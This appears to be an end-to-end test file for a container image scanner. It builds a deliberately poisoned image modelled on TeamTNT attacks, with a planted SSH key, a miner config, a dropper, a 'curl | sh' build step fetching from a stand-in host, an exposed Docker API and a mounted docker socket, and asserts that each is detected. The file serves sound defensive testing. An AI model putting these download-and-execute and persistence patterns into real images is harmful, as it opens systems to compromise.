"""`cloudward image scan` end to end, the way a user runs it, on images built by umoci/skopeo.

Two images from the same base: a "bad" one carrying what a TeamTNT-poisoned image carries (an
affected Debian package and Python package, a cloud key in the app's .env, a miner config deleted
in a later layer, a dropper script, a planted authorized_keys, a `curl | sh` build step, root user,
port 2375, the docker socket as a volume, a password in ENV), and a "clean" one with the fixed
versions and none of that. Advisories: the OSV fixtures plus the real PyPA records for requests.
Fake credentials are random per session, never real ones, and must never appear in any output.
"""

from __future__ import annotations

import json
import secrets
import shutil
import string
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from cloudward.cli.app import app
from cloudward.engines.osv.db import update
from tests.harness.images import Layout, build_steps, push, put, to_docker_archive, to_oci_archive, umoci
from tests.harness.plants.artifacts import DROPPER, XMRIG_CONFIG
from tests.harness.services import Service

OSV = Path(__file__).parents[1] / "engines" / "data" / "osv"
PYPA = Path(__file__).parents[3] / "shared" / "corpora" / "pypa-advisories" / "vulns" / "requests"
KEY_ID = "AKIA" + "".join(secrets.choice(string.ascii_uppercase + "234567") for _ in range(16))
SECRET = "".join(secrets.choice(string.ascii_letters + string.digits + "+/") for _ in range(40))
ENV_PASSWORD = "pw-" + "".join(secrets.choice(string.ascii_letters) for _ in range(20))

OS_RELEASE = 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\nID=debian\n'


def _dpkg(widget_version: str) -> str:
    return (
        "Package: libwidget2\nStatus: install ok installed\nPriority: optional\nSection: libs\n"
        f"Maintainer: Test <t@example.invalid>\nArchitecture: amd64\nSource: widget\nVersion: {widget_version}\n"
        "Description: widget parsing library\n\n"
        "Package: base-files\nStatus: install ok installed\nArchitecture: amd64\nVersion: 12.4+deb12u5\n"
        "Maintainer: Test <t@example.invalid>\nDescription: base system files\n"
    )


def _base(widget_version: str, requests_version: str):  # type: ignore[no-untyped-def]
    def step(root: Path) -> None:
        put(root, "/etc/os-release", OS_RELEASE)
        put(root, "/var/lib/dpkg/status", _dpkg(widget_version))
        site = "/usr/local/lib/python3.11/site-packages"
        put(root, f"{site}/requests-{requests_version}.dist-info/METADATA",
            f"Metadata-Version: 2.1\nName: requests\nVersion: {requests_version}\nLicense: Apache 2.0\n")
        put(root, "/app/app.py", "import os\nprint(os.environ.get('MODE', 'dev'))\n")
    return step


def _poison(root: Path) -> None:
    put(root, "/app/.env", f"AWS_ACCESS_KEY_ID={KEY_ID}\nAWS_SECRET_ACCESS_KEY={SECRET}\n")
    put(root, "/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB7example planted@teamtnt\n", 0o600)
    put(root, "/root/.configs/config.json", XMRIG_CONFIG, 0o600)
    put(root, "/tmp/.x/init.sh", DROPPER, 0o755)


def _cleanup(root: Path) -> None:
    (root / "root/.configs/config.json").unlink()


@pytest.fixture(scope="module")
def bad(tmp_path_factory: pytest.TempPathFactory) -> Layout:
    return build_steps(tmp_path_factory.mktemp("bad"), [
        _base("1:2.4-3", "2.19.0"),
        (_poison, "/bin/sh -c curl -fsSL http://get.example.invalid/i.sh | sh"),
        _cleanup,
    ], config=["--config.exposedports", "2375/tcp", "--config.env", f"DB_PASSWORD={ENV_PASSWORD}",
               "--config.volume", "/var/run/docker.sock", "--config.cmd", "/app/app.py"])


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> Layout:
    return build_steps(tmp_path_factory.mktemp("clean"), [_base("1:2.4-3+deb12u1", "2.31.0")],
                       config=["--config.user", "10001", "--config.exposedports", "8080/tcp",
                               "--config.env", "DB_PASSWORD_FILE=/run/secrets/db", "--config.cmd", "/app/app.py"])


@pytest.fixture(scope="module")
def workdir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A private data dir (cache) and an advisory database, like a user after `cloudward db update`."""
    work = tmp_path_factory.mktemp("scan")
    advisories = work / "osv-src"
    shutil.copytree(OSV, advisories)
    shutil.copytree(PYPA, advisories / "requests")
    update([str(advisories)], None, work / "data" / "advisories.db")
    (work / "cloudward.toml").write_text(f'data_dir = "{work / "data"}"\n')
    return work


def scan(workdir: Path, *args: str) -> tuple[dict[str, Any], str]:
    result = CliRunner().invoke(app, ["image", "scan", *args, "--no-store", "-f", "json",
                                      "--config", str(workdir / "cloudward.toml")])
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout), result.output


def by_rule(doc: dict[str, Any]) -> dict[str, list[dict[str, Any]]]:
    out: dict[str, list[dict[str, Any]]] = {}
    for finding in doc["findings"]:
        out.setdefault(finding["rule_id"], []).append(finding)
    return out


def test_bad_image_findings(bad: Layout, workdir: Path) -> None:
    doc, output = scan(workdir, bad.ref, "--no-cache")
    found = by_rule(doc)
    vulns = {(f["location"]["package"], f["evidence"]["advisory"]) for f in found["package.known_vulnerability"]}
    assert ("libwidget2", "DSA-TEST-0001") in vulns
    assert any(pkg == "requests" for pkg, _ in vulns)
    secret = [f for f in doc["findings"] if f["category"] == "secret" and f["location"].get("path") == "/app/.env"]
    assert secret and all(f["target"] == {"kind": "image", "name": bad.ref} for f in secret)
    [miner] = found["content.malware.miner"]
    assert miner["location"]["path"] == "/root/.configs/config.json"
    assert miner["location"]["in_final_filesystem"] is False  # deleted in layer 3, still in the image
    assert [f["location"]["path"] for f in found["content.malware.dropper"]] == ["/tmp/.x/init.sh"]
    for rule in ("image.config.runs_as_root", "image.config.exposes_docker_api", "image.config.runtime_socket_volume",
                 "image.config.secret_in_env", "image.files.authorized_keys", "image.history.download_and_execute"):
        assert rule in found, rule
    assert found["image.config.secret_in_env"][0]["evidence"] == {"secret_env_names": ["DB_PASSWORD"]}
    [inventory] = doc["inventory"]
    assert inventory["os"] == "Debian GNU/Linux 12 (bookworm)" and inventory["packages"] == 3
    for raw in (SECRET, ENV_PASSWORD):
        assert raw not in output


def test_clean_image_has_only_the_healthcheck_note(clean: Layout, workdir: Path) -> None:
    doc, _ = scan(workdir, clean.ref, "--no-cache")
    assert [f["rule_id"] for f in doc["findings"]] == ["image.config.no_healthcheck"]
    assert doc["scan"]["errors"] == []


def test_rescan_reads_the_cache_and_agrees(bad: Layout, workdir: Path) -> None:
    first, _ = scan(workdir, bad.ref)
    second, output = scan(workdir, bad.ref)
    assert second["inventory"][0]["cached_layers"] == 3
    assert sorted(f["fingerprint"] for f in first["findings"]) == sorted(f["fingerprint"] for f in second["findings"])
    assert [f["location"] for f in sorted(first["findings"], key=lambda f: f["fingerprint"])] == \
        [f["location"] for f in sorted(second["findings"], key=lambda f: f["fingerprint"])]
    assert "(3 of 3 layers from the cache)" in output


def test_shared_base_layers_are_read_once(bad: Layout, workdir: Path, tmp_path: Path) -> None:
    """A second tag built on top of the bad image: its three lower layers come from the cache, the
    new top layer is read, and the findings of both the cached and the new layers are reported."""
    bundle = tmp_path / "bundle"
    umoci("unpack", "--image", f"{bad.path}:{bad.tag}", str(bundle))
    put(bundle / "rootfs", "/srv/deploy.sh", "#!/bin/sh\nexport GITHUB_TOKEN=ghp_" + "".join(
        secrets.choice(string.ascii_letters + string.digits) for _ in range(36)) + "\n", 0o755)
    umoci("repack", "--image", f"{bad.path}:child", str(bundle))
    scan(workdir, bad.ref)  # the three layers are in the cache now (or were already)
    doc, _ = scan(workdir, f"oci:{bad.path}:child")
    assert doc["inventory"][0]["cached_layers"] == 3 and doc["inventory"][0]["layers"] == 4
    paths = {f["location"].get("path") for f in doc["findings"]}
    assert {"/srv/deploy.sh", "/app/.env", "/root/.configs/config.json"} <= paths


def test_same_findings_from_every_source(bad: Layout, workdir: Path, tmp_path: Path, registry_server: Service) -> None:
    """docker-archive, OCI archive and a real registry give the same problems (targets differ by name)."""
    archive = to_docker_archive(bad, tmp_path / "bad.tar")
    oci = to_oci_archive(bad, tmp_path / "bad-oci.tar")
    pushed = push(bad, f"{registry_server.host}:{registry_server.port}", "cw/bad")
    kinds = []
    for ref, extra in ((bad.ref, []), (str(archive), []), (f"oci-archive:{oci}", []), (pushed, ["--insecure"])):
        doc, _ = scan(workdir, ref, "--no-cache", *extra)
        kinds.append(sorted((f["rule_id"], f["location"].get("path", ""), f["location"].get("package", ""))
                            for f in doc["findings"]))
    assert all(k == kinds[0] for k in kinds[1:])


def test_scanners_option_limits_the_work(bad: Layout, workdir: Path) -> None:
    doc, _ = scan(workdir, bad.ref, "--no-cache", "--scanners", "config")
    assert {f["category"] for f in doc["findings"]} <= {"misconfiguration", "secret"}
    assert not any(f["rule_id"].startswith(("image.malware", "package.")) for f in doc["findings"])


def test_without_advisory_database_the_rest_still_runs(bad: Layout, tmp_path: Path) -> None:
    (tmp_path / "cloudward.toml").write_text(f'data_dir = "{tmp_path / "data"}"\n')
    result = CliRunner().invoke(app, ["image", "scan", bad.ref, "--no-store", "-f", "json",
                                      "--config", str(tmp_path / "cloudward.toml")])
    assert result.exit_code == 0, result.output
    doc = json.loads(result.stdout)
    assert any("cloudward db update" in e["message"] and e["stage"] == "vuln" for e in doc["scan"]["errors"])
    assert "content.malware.miner" in by_rule(doc)


def test_unreadable_image_is_exit_3_naming_it(tmp_path: Path, workdir: Path) -> None:
    junk = tmp_path / "junk.tar"
    junk.write_bytes(b"not a tar at all" * 100)
    result = CliRunner().invoke(app, ["image", "scan", str(junk), "--no-store", "-f", "json",
                                      "--config", str(workdir / "cloudward.toml")])
    assert result.exit_code == 3
    assert str(junk) in json.loads(result.stdout)["scan"]["errors"][0]["message"]


def test_one_bad_image_does_not_cost_the_others(bad: Layout, tmp_path: Path, workdir: Path) -> None:
    result = CliRunner().invoke(app, ["image", "scan", str(tmp_path / "missing.tar"), bad.ref, "--no-store",
                                      "-f", "json", "--config", str(workdir / "cloudward.toml")])
    assert result.exit_code == 0, result.output
    doc = json.loads(result.stdout)
    assert len(doc["inventory"]) == 1 and "content.malware.miner" in by_rule(doc)
    assert "missing.tar" in doc["scan"]["errors"][0]["message"]


@pytest.mark.parametrize("fmt", ["cyclonedx", "spdx-json"])
def test_sbom_command(bad: Layout, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"sbom-{fmt}.json"
    result = CliRunner().invoke(app, ["image", "sbom", bad.ref, "--format", fmt, "-o", str(out)])
    assert result.exit_code == 0, result.output
    text = out.read_text()
    assert "pkg:deb/debian/libwidget2@1:2.4-3" in text.replace("%3A", ":")
    assert "pkg:pypi/requests@2.19.0" in text


def test_damaged_layer_cache_is_a_miss(bad: Layout, tmp_path: Path, workdir: Path) -> None:
    data = tmp_path / "data"
    (tmp_path / "cloudward.toml").write_text(f'data_dir = "{data}"\n')
    shutil.copy(workdir / "data" / "advisories.db", tmp_path / "advisories.db")
    args = ["image", "scan", bad.ref, "--no-store", "-f", "json", "--config", str(tmp_path / "cloudward.toml"),
            "--advisories", str(tmp_path / "advisories.db")]
    first = json.loads(CliRunner().invoke(app, args).stdout)
    files = sorted((data / "cache" / "layers").iterdir())
    assert len(files) == 3
    files[0].write_bytes(b"not gzip")
    files[1].write_bytes(b"")
    for summary in (data / "cache" / "images").iterdir():  # the whole-image record too
        summary.write_bytes(b"\x1f\x8b garbage")
    again = CliRunner().invoke(app, args)
    assert again.exit_code == 0, again.output
    second = json.loads(again.stdout)
    assert second["inventory"][0]["cached_layers"] == 1
    assert sorted(f["fingerprint"] for f in first["findings"]) == sorted(f["fingerprint"] for f in second["findings"])


def _sbom_with_vulns(layout: Layout, workdir: Path, out: Path) -> dict[str, Any]:
    result = CliRunner().invoke(app, ["image", "sbom", layout.ref, "--vulns", "-o", str(out),
                                      "--config", str(workdir / "cloudward.toml")])
    assert result.exit_code == 0, result.output
    text = out.read_text()
    from cyclonedx.schema import SchemaVersion
    from cyclonedx.validation.json import JsonStrictValidator

    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(text) is None
    doc: dict[str, Any] = json.loads(text)
    return doc


def test_sbom_with_vulnerabilities_agrees_with_image_scan(bad: Layout, clean: Layout, workdir: Path,
                                                          tmp_path: Path) -> None:
    doc = _sbom_with_vulns(bad, workdir, tmp_path / "bad.json")
    names = {c["bom-ref"]: c["name"] for c in doc["components"]}
    affected = {(v["id"], names[a["ref"]]) for v in doc["vulnerabilities"] for a in v["affects"]}
    scanned, _ = scan(workdir, bad.ref)
    expected = {(f["evidence"]["advisory"], f["location"]["package"])
                for f in by_rule(scanned)["package.known_vulnerability"]}
    assert ("DSA-TEST-0001", "libwidget2") in affected
    assert affected == expected
    widget = next(v for v in doc["vulnerabilities"] if v["id"] == "DSA-TEST-0001")
    assert widget["affects"][0]["versions"] == [{"version": "1:2.4-3", "status": "affected"}]
    assert "1:2.4-3+deb12u1" in widget["recommendation"]
    # the fixed image: the same advisories exist, none applies
    assert _sbom_with_vulns(clean, workdir, tmp_path / "clean.json")["vulnerabilities"] == []


def test_sbom_vulns_needs_cyclonedx_and_a_database(bad: Layout, tmp_path: Path) -> None:
    from cloudward.core.errors import UsageError

    spdx = CliRunner().invoke(app, ["image", "sbom", bad.ref, "--vulns", "--format", "spdx-json"])
    assert isinstance(spdx.exception, UsageError) and "cyclonedx" in str(spdx.exception)
    missing = CliRunner().invoke(app, ["image", "sbom", bad.ref, "--vulns", "--advisories", str(tmp_path / "no.db")])
    assert isinstance(missing.exception, UsageError) and "db update" in str(missing.exception)
    assert missing.exception.exit_code == 2
